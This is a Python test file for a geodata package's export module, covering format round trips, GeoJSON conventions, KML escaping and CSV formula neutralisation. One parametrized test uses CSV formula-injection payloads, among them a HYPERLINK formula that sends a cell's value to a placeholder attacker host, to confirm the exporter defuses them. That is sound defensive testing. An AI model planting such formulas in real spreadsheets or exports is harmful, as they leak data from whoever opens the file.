"""Exports (ninohe_geo.io.export): six formats, formula-safe CSV, and round trips through the
importer."""

from __future__ import annotations

import csv
import io
import itertools
import json
from pathlib import Path

import pytest
from importer_support import test_boundary
from repo_paths import REPO_ROOT
from shapely.geometry import Polygon

from ninohe_geo.io.cells import neutralise
from ninohe_geo.io.errors import ImportFileError
from ninohe_geo.io.export import EXPORT_FORMATS, export_bytes, export_file, to_csv
from ninohe_geo.io.pipeline import prepare_import
from ninohe_geo.model.catalog import load_catalog
from ninohe_geo.model.schema import ALL_FIELDS

SHIPPED = REPO_ROOT / "geodata"


@pytest.fixture(scope="module")
def shipped():  # type: ignore[no-untyped-def]
    return load_catalog(SHIPPED)


@pytest.mark.parametrize("fmt", EXPORT_FORMATS)
def test_export_round_trips_through_import(
    shipped, make_data_dir, tmp_path: Path, fmt: str
) -> None:  # type: ignore[no-untyped-def]
    out = export_file(shipped.features, fmt, tmp_path / f"all.{fmt}")
    prepared = prepare_import(out, "roundtrip", store=make_data_dir(), boundary=test_boundary())
    assert prepared.mapping.name == "ninohe"
    assert prepared.report().ok, prepared.report().text()
    assert len(prepared.candidates) == len(shipped.features)
    for cand in prepared.candidates:
        row = shipped.feature(cand.label)
        assert row is not None, cand.label
        for name in ALL_FIELDS:
            if name == "id":
                continue
            original = row[name] if isinstance(row[name], str) and row[name] else None
            assert cand.properties.get(name) == original, (cand.label, name)
        assert cand.geometry is not None
        assert cand.geometry.geom_type == row.geometry.geom_type
        assert cand.geometry.equals_exact(row.geometry, 1.5e-7), cand.label


def test_geojson_export_is_rfc7946(shipped) -> None:  # type: ignore[no-untyped-def]
    doc = json.loads(export_bytes(shipped.features, "geojson"))
    assert doc["type"] == "FeatureCollection" and "crs" not in doc

    def decimals(value: object) -> int:
        if isinstance(value, list):
            return max((decimals(v) for v in value), default=0)
        text = repr(value)
        return len(text.split(".")[1]) if "." in text else 0

    assert max(decimals(f["geometry"]["coordinates"]) for f in doc["features"]) <= 7


def test_polygons_are_written_counter_clockwise(tmp_path: Path, shipped) -> None:  # type: ignore[no-untyped-def]
    frame = shipped.features.iloc[:1].copy()
    clockwise = Polygon([(141.29, 40.26), (141.29, 40.27), (141.30, 40.27), (141.30, 40.26)])
    frame = frame.set_geometry([clockwise])
    ring = json.loads(export_bytes(frame, "geojson"))["features"][0]["geometry"]["coordinates"][0]
    area2 = sum(x1 * y2 - x2 * y1 for (x1, y1), (x2, y2) in itertools.pairwise(ring))
    assert area2 > 0  # counter-clockwise


@pytest.mark.parametrize(
    "value",
    ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+1+2", "-2+3", "@SUM(1)", "\tx", "\rx"],
)
def test_csv_export_neutralises_formulas(shipped, value: str) -> None:  # type: ignore[no-untyped-def]
    frame = shipped.features.iloc[:1].copy()
    frame["name_ja"] = value
    frame["summary_en"] = value
    text = to_csv(frame).decode("utf-8-sig")
    row = next(csv.DictReader(io.StringIO(text, newline="")))
    assert row["name_ja"] == "'" + value
    assert row["summary_en"] == "'" + value
    for cell in row.values():
        assert not cell.startswith(("=", "+", "@", "\t", "\r")), cell


def test_neutralised_values_come_back_unchanged(shipped, make_data_dir, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
    frame = shipped.features.iloc[:1].copy()
    frame["name_en"] = "=1+1 (not a formula)"
    out = export_file(frame, "csv", tmp_path / "one.csv")
    prepared = prepare_import(out, "one", store=make_data_dir(), boundary=test_boundary())
    assert prepared.candidates[0].properties["name_en"] == "=1+1 (not a formula)"


def test_neutralise_leaves_ordinary_text() -> None:
    assert neutralise("九戸城跡") == "九戸城跡"
    assert neutralise("P3-07") == "P3-07"


def test_kml_escapes_markup(shipped, make_data_dir, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
    frame = shipped.features.iloc[:1].copy()
    frame["name_ja"] = "<b>&</b>]]>"
    data = export_bytes(frame, "kml")
    assert b"<b>" not in data and b"&lt;b&gt;&amp;&lt;/b&gt;]]&gt;" in data
    out = tmp_path / "x.kml"
    out.write_bytes(data)
    prepared = prepare_import(out, "k", store=make_data_dir(), boundary=test_boundary())
    assert prepared.candidates[0].properties["name_ja"] == "<b>&</b>]]>"


def test_export_of_nothing_and_unknown_format(shipped) -> None:  # type: ignore[no-untyped-def]
    with pytest.raises(ImportFileError, match="no features to export"):
        export_bytes(shipped.features.iloc[:0], "geojson")
    with pytest.raises(ImportFileError, match="unknown export format 'shp'"):
        export_bytes(shipped.features, "shp")


def test_export_file_is_atomic(shipped, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
    out = tmp_path / "sub" / "all.gpkg"
    export_file(shipped.features, "gpkg", out)
    assert out.read_bytes().startswith(b"SQLite format 3\x00")
    assert [p.name for p in out.parent.iterdir()] == ["all.gpkg"]


def test_layer_text_has_one_feature_per_line(shipped) -> None:  # type: ignore[no-untyped-def]
    from ninohe_geo.io.layerfile import document_bytes

    doc = {
        "type": "FeatureCollection",
        "layer": {"id": "x", "title_ja": "試験"},
        "features": [
            {"type": "Feature", "id": "a", "geometry": None, "properties": {"name_ja": "九戸城跡"}},
            {"type": "Feature", "id": "b", "geometry": None, "properties": {}},
        ],
    }
    text = document_bytes(doc).decode("utf-8")
    assert json.loads(text) == doc
    lines = text.splitlines()
    assert sum(line.lstrip().startswith('{"type":"Feature"') for line in lines) == 2
    assert "九戸城跡" in text  # not \\u-escaped
    empty = {"type": "FeatureCollection", "features": []}
    assert json.loads(document_bytes(empty)) == empty
